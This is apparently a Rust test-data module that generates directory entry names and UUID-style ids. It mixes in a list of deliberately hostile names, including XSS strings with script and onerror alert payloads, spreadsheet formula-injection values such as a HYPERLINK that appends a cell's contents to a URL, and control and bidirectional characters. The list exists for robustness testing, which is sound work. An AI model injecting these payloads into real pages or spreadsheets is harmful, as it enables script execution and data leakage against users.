//! Names and ids in a directory.

use std::fmt::Write as _;

use crate::mix::mix;

/// Names that break careless escaping, alignment, HTML, label values and spreadsheets.
const HOSTILE_NAMES: [&str; 21] = [
    "O\"Brien \"the quote\"",
    "back\\slash\\",
    "new\nline",
    "carriage\r\ntab\t",
    "<script>alert(1)</script>",
    "</td><img src=x onerror=alert(1)>",
    "用户甲",
    "مستخدم",
    "👩🏽‍💻 e\u{301}\u{202e}txet",
    " leading and trailing ",
    "{project=\"x\",status=\"y\"}",
    "nul\u{0}and\u{7f}del\u{1b}[31m",
    "_none",
    "a,b;c&d=e%41+f#g?h/i",
    "Zoë Müller-Ñandú",
    "=HYPERLINK(\"http://example.com/?\"&A1,\"open\")",
    "+1+2",
    "-1+2",
    "@SUM(A1:A9)",
    "\tafter a tab",
    "\rafter a return",
];

/// A text and its JSON encoding.
#[derive(Debug, Clone)]
pub(crate) struct Name {
    pub(crate) text: String,
    pub(crate) json: String,
}

impl Name {
    pub(super) fn new(text: String) -> Self {
        let json = serde_json::to_string(&text).expect("a string is always JSON");
        Self { text, json }
    }
}

/// Returns a name for the entry with this number. With `hostile`, every second one is hostile.
pub(super) fn generated_name(what: &str, number: u32, hostile: bool) -> String {
    if !hostile || number % 2 == 1 {
        return format!("{what}-{number:04}");
    }
    let half = number as usize / 2;
    let text = HOSTILE_NAMES[half % HOSTILE_NAMES.len()];
    match half / HOSTILE_NAMES.len() {
        0 => text.to_owned(),
        round => format!("{text}{round}"),
    }
}

/// Returns an id in the form of a UUID.
pub(super) fn uuid(seed: u64, number: u64) -> String {
    let (a, b) = (mix(seed ^ number), mix(seed.wrapping_add(mix(number))));
    let mut text = String::with_capacity(36);
    write!(
        text,
        "{:08x}-{:04x}-{:04x}-{:04x}-{:012x}",
        a >> 32,
        (a >> 16) & 0xffff,
        a & 0xffff,
        b >> 48,
        b & 0xffff_ffff_ffff
    )
    .expect("writing to a String cannot fail");
    text
}
